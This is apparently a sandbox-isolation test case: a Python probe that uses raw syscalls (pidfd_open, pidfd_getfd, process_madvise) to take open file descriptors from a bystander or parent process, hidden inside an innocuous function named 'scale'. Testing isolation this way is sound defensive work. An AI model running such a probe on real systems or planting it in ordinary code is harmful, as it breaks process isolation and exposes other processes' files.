# attempt: takes open files out of another process
# class: kernel
# verdict: incorrect
# not held: process (a process of its own is not locked in)

import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"


def call(name, number, other, *arguments):
    """Make a system call by its number on this machine; say so if it worked."""
    number = number if X86 else other
    if number is not None and libc.syscall(number, *arguments) >= 0:
        print("@ESCAPED@ by", name)


def attempt():
    for victim in (int("@BYSTANDER@"), os.getppid()):
        try:
            handle = os.pidfd_open(victim)
        except OSError:
            continue
        call("pidfd_getfd", 438, 438, handle, 1, 0)
        call("process_madvise", 440, 440, handle, 0, 0, 20, 0)


def scale(x):
    attempt()
    return x


def grow(x, by=1):
    return x
